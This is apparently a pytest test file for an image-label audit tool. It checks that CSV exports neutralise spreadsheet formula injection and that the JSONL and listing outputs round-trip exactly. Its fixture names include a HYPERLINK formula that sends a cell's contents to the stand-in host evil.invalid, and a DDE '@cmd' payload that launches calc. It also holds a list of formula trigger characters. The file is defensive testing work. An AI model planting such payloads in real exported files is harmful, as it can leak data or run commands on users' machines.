"""Export and CSV output with hostile names: no cell a spreadsheet would run, lossless JSON, one line per listing entry.

The workspace is a custom-class ImageFolder whose folder and file names begin with
formula characters (``= + - @``, tab, CR) and hold quotes, separators, a newline,
a backslash and a line separator, reviewed by a reviewer with such a name.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path, PurePosixPath

import numpy as np
import pandas as pd
import pytest
from _synth import make_named_images, make_parquet_predictions
from hypothesis import given, settings
from hypothesis import strategies as st

from audit.cli import main
from audit.datasets import load_dataset
from audit.export import export_labels
from audit.pipeline import run_audit
from audit.store import append_decision
from audit.zoo import resolve_model

TRIGGERS = "=+-@\t\r\n\0"  # OWASP / ASVS: a cell starting with one of these is a formula to a spreadsheet
FOLDERS = {
    '=HYPERLINK("http:evil.invalid?"&A1,"x")': ["=1+1.png", "a\nb.png"],
    "+SUM(1;2)": ["-0.5.png", "c\\d.png"],
    "-2": ["@x.png", "e\u2028f.png"],
    "@cmd|' -C calc'!A0": ["\tg.png", "h,i.png"],
    "\ttab, \"quoted\"": ["j.png", "'k.png"],
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """(db, dataset root, export folder) of the hostile workspace, reviewed and exported once."""
    base = tmp_path_factory.mktemp("hostile")
    root = make_named_images(base / "ds", FOLDERS)
    ds = load_dataset(root)
    assert ds.layout == "imagefolder-custom" and len(ds) == 10
    preds = make_parquet_predictions(
        base / "p.parquet", list(ds.image_ids), ds.labels, n_classes=len(FOLDERS), flip=np.array([0, 3, 6])
    )
    db = base / "w.duckdb"
    run_audit(ds, [resolve_model(f"preds:{preds}")], db, progress=False)
    append_decision(db, 0, "relabel", labels=[2], reviewer="=evil()", reason="@reason")
    append_decision(db, 6, "multi", labels=[0, 4], reviewer="-x")
    # Before any image is excluded: a labels.csv with an excluded row does not load as a label file (empty label).
    export_labels(db, base / "kept")
    append_decision(db, 3, "no_fit", reviewer="+1")
    out = base / "out"
    export_labels(db, out)
    return db, root, out


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(text: str) -> None:
    """No cell starts a formula, and every cell holding more than plain characters is quoted."""
    for row in _cells(text):
        for cell in row:
            assert not cell or cell[0] not in TRIGGERS, f"formula cell {cell!r}"
            if _number(cell) is None and any(not (ch.isascii() and (ch.isalnum() or ch in "_./: -")) for ch in cell):
                assert '"' + cell.replace('"', '""') + '"' in text, f"unquoted cell {cell!r}"


def _number(cell: str) -> float | None:
    try:
        return float(cell)
    except ValueError:
        return None


def _jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_export_csvs_never_start_a_formula(hostile):
    _, _, out = hostile
    for name in ("labels.csv", "classes.csv", "excluded.csv"):
        _assert_safe((out / name).read_text())
    excluded = _cells((out / "excluded.csv").read_text())
    assert len(excluded) == 2 and excluded[1][0].startswith("./+SUM(1;2)/")  # image 3, no class fits
    labels = {r["image"]: r for r in csv.DictReader(io.StringIO((out / "labels.csv").read_text(), newline=""))}
    # The reviewer's name sits inside a quoted cell, after "decision N by".
    assert any(r["source"].endswith("by =evil()") for r in labels.values())


def test_spreadsheet_cells_decode_to_the_lossless_json(hostile):
    """labels.jsonl / classes.jsonl hold every name exactly; the CSV shows it with a leading ' or ./ ."""
    _, _, out = hostile
    classes = _jsonl(out / "classes.jsonl")
    assert [c["key"] for c in classes] == sorted(FOLDERS)
    rows = _cells((out / "classes.csv").read_text())[1:]
    for c, (index, key, name) in zip(classes, rows, strict=True):
        assert int(index) == c["index"]
        assert key == ("'" + c["key"] if c["key"][0] in TRIGGERS else c["key"])
        assert name == ("'" + c["name"] if c["name"][0] in TRIGGERS else c["name"])
    images = _jsonl(out / "labels.jsonl")
    expected = sorted(f"{d}/{f}" for d, fs in FOLDERS.items() for f in fs)
    assert [r["image"] for r in images] == expected
    table = _cells((out / "labels.csv").read_text())[1:]
    for r, cells in zip(images, table, strict=True):
        assert cells[0] == ("./" + r["image"] if r["image"][0] in TRIGGERS + " " else r["image"])
        assert cells[2] == " ".join(map(str, r["labels"]))
    by_image = {r["image"]: r for r in images}
    assert by_image[expected[0]]["source"].endswith("by =evil()")


def test_hostile_export_loads_back_as_a_label_file(hostile):
    _, root, out = hostile
    out = out.with_name("kept")
    ds = load_dataset(root)
    again = load_dataset(root, label_file=out / "labels.csv")
    exported = {r["image"]: r["labels"] for r in _jsonl(out / "labels.jsonl")}
    kept = {i: s[0] for i, s in exported.items() if s}
    assert set(ds.image_ids) == set(exported)
    assert dict(zip(again.image_ids, again.labels.tolist(), strict=True)) == kept


def test_imagefolder_listing_keeps_one_entry_per_line(hostile):
    """A newline, CR, tab, backslash or line separator in a name is escaped; the listing decodes exactly."""
    _, _, out = hostile
    text = (out / "imagefolder.txt").read_text()
    entries = [(c, PurePosixPath(r["image"]).name) for r in _jsonl(out / "labels.jsonl") for c in r["labels"]]
    lines = text.split("\n")[:-1]
    assert len(lines) == len(entries) == len(text.splitlines())  # no name splits a line, by any line-break rule
    from audit.export import unescape_listing

    keys = [c["key"] for c in _jsonl(out / "classes.jsonl")]
    decoded = [tuple(unescape_listing(part) for part in line.rsplit("/", 1)) for line in lines]
    assert decoded == [(keys[c], name) for c, name in entries]


@settings(max_examples=100, deadline=None)
@given(name=st.text(max_size=12))
def test_listing_escape_round_trips_any_name(name):
    from audit.export import escape_listing, unescape_listing

    line = escape_listing(name)
    assert unescape_listing(line) == name and len(line.splitlines()) <= 1 and line.isprintable()


@settings(max_examples=100, deadline=None)
@given(value=st.text(max_size=10))
def test_a_text_cell_reads_back_as_its_value_with_a_quote_before_a_formula(value):
    from audit._csvsafe import rows_to_csv

    row = _cells(rows_to_csv(["h"], [[value]]).decode())[1] if value else [""]
    assert row == [("'" + value) if value[:1] and value[0] in TRIGGERS else value]


def test_numbers_stay_numbers_and_text_is_neutralised():
    from audit._csvsafe import frame_to_csv, rows_to_csv

    df = pd.DataFrame(
        {
            "value": [-0.5, 0.25],
            "n": pd.array([-3, None], dtype="Int64"),
            "name": ["-0.5", "=1+1"],
            "when": pd.to_datetime(["2024-01-02 03:04:05", None]),
            "ok": [True, False],
        }
    )
    lines = frame_to_csv(df).splitlines()
    assert lines == [
        "value,n,name,when,ok",
        "-0.5,-3,\"'-0.5\",2024-01-02 03:04:05,True",
        "0.25,,\"'=1+1\",,False",
    ]
    assert rows_to_csv(["a", "b", "c"], [[-1, -0.5, "-1"]]).decode().splitlines()[1] == "-1,-0.5,\"'-1\""


def test_cli_csv_outputs_are_spreadsheet_safe_and_json_stays_lossless(hostile, capsys):
    db, _, _ = hostile
    for cmd in ("issues", "metrics", "runs"):
        assert main([cmd, "--db", str(db), "--format", "csv"]) == 0
        text = capsys.readouterr().out
        _assert_safe(text)
        assert main([cmd, "--db", str(db), "--format", "json"]) == 0
        records = json.loads(capsys.readouterr().out)
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert len(rows) == len(records) > 0
        if cmd == "issues":
            ids = {r["image_id"] for r in records}
            assert any(i[0] in TRIGGERS for i in ids)  # hostile ids are flagged, so the check bites
            assert {r["image_id"] for r in rows} == {("'" + i) if i[0] in TRIGGERS else i for i in ids}
        if cmd == "metrics":  # numbers are written as numbers
            assert [float(r["value"]) for r in rows if r["value"]] == pytest.approx(
                [r["value"] for r in records if r["value"] is not None]
            )
